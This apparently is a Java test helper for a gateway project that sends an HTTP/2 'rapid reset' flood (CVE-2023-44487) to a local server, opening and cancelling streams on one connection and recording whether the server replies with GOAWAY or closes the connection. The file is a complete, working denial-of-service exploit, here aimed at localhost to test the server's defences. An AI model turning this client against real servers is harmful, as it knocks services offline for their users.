package otelgw.testing;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.time.Duration;

/**
 * An HTTP/2 "rapid reset" client (CVE-2023-44487), on raw frames over plaintext: it opens a stream
 * with a HEADERS frame and cancels it at once with RST_STREAM, over and over, on one connection, so
 * that the server starts work for each stream and the client pays nothing. A server that defends
 * itself sends GOAWAY and closes the connection.
 */
public final class RapidResetClient {

  private static final int HEADERS = 0x1;
  private static final int RST_STREAM = 0x3;
  private static final int SETTINGS = 0x4;
  private static final int GOAWAY = 0x7;
  private static final int END_HEADERS = 0x4;
  private static final int CANCEL = 0x8;

  /** The HTTP/2 error code for "you are sending too much": {@value}. */
  public static final int ENHANCE_YOUR_CALM = 0xb;

  private RapidResetClient() {}

  /**
   * What the server did.
   *
   * @param streamsReset how many streams were opened and reset before the server stopped reading
   * @param goAwayError the error code of the server's GOAWAY, or -1 if it sent none
   * @param closed whether the server closed the connection
   */
  public record Outcome(int streamsReset, int goAwayError, boolean closed) {}

  /**
   * Opens and resets up to {@code streams} streams of {@code path} on a connection to {@code port}
   * on 127.0.0.1, then reads what the server answers for up to {@code wait}.
   */
  public static Outcome attack(int port, String path, int streams, Duration wait)
      throws IOException {
    try (Socket socket = new Socket("127.0.0.1", port)) {
      socket.setSoTimeout((int) wait.toMillis());
      OutputStream out = socket.getOutputStream();
      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
      out.write(frame(SETTINGS, 0, 0, new byte[0]));
      byte[] headers = headerBlock(path);
      int sent = 0;
      try {
        for (int stream = 1; sent < streams; stream += 2, sent++) {
          ByteArrayOutputStream pair = new ByteArrayOutputStream(headers.length + 32);
          pair.writeBytes(frame(HEADERS, END_HEADERS, stream, headers));
          pair.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
          out.write(pair.toByteArray());
        }
        out.flush();
      } catch (SocketException e) {
        // The server closed the connection under us: that is its defence working.
      }
      return read(socket, sent);
    }
  }

  private static Outcome read(Socket socket, int sent) throws IOException {
    DataInputStream in = new DataInputStream(socket.getInputStream());
    int goAway = -1;
    try {
      while (true) {
        int length = in.readUnsignedShort() << 8 | in.readUnsignedByte();
        int type = in.readUnsignedByte();
        in.readUnsignedByte(); // flags
        in.readInt(); // stream
        byte[] payload = in.readNBytes(length);
        if (payload.length < length) {
          return new Outcome(sent, goAway, true);
        }
        if (type == GOAWAY && length >= 8) {
          goAway =
              (payload[4] & 0xFF) << 24
                  | (payload[5] & 0xFF) << 16
                  | (payload[6] & 0xFF) << 8
                  | (payload[7] & 0xFF);
        }
      }
    } catch (EOFException | SocketException e) {
      return new Outcome(sent, goAway, true);
    } catch (SocketTimeoutException e) {
      return new Outcome(sent, goAway, false);
    }
  }

  /** An HPACK block of literal fields, never indexed and not Huffman-coded: simple, and valid. */
  private static byte[] headerBlock(String path) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    String[][] fields = {
      {":method", "POST"},
      {":scheme", "http"},
      {":path", path},
      {":authority", "127.0.0.1"},
      {"content-type", "application/grpc"},
      {"te", "trailers"}
    };
    for (String[] field : fields) {
      block.write(0x00); // literal without indexing, new name
      string(block, field[0]);
      string(block, field[1]);
    }
    return block.toByteArray();
  }

  private static void string(ByteArrayOutputStream out, String text) {
    byte[] bytes = text.getBytes(US_ASCII);
    // A 7-bit prefixed length; every string here is shorter than 127 bytes.
    out.write(bytes.length);
    out.writeBytes(bytes);
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    ByteArrayOutputStream frame = new ByteArrayOutputStream(9 + payload.length);
    frame.write(payload.length >>> 16);
    frame.write(payload.length >>> 8);
    frame.write(payload.length);
    frame.write(type);
    frame.write(flags);
    frame.write(stream >>> 24);
    frame.write(stream >>> 16);
    frame.write(stream >>> 8);
    frame.write(stream);
    frame.writeBytes(payload);
    return frame.toByteArray();
  }
}
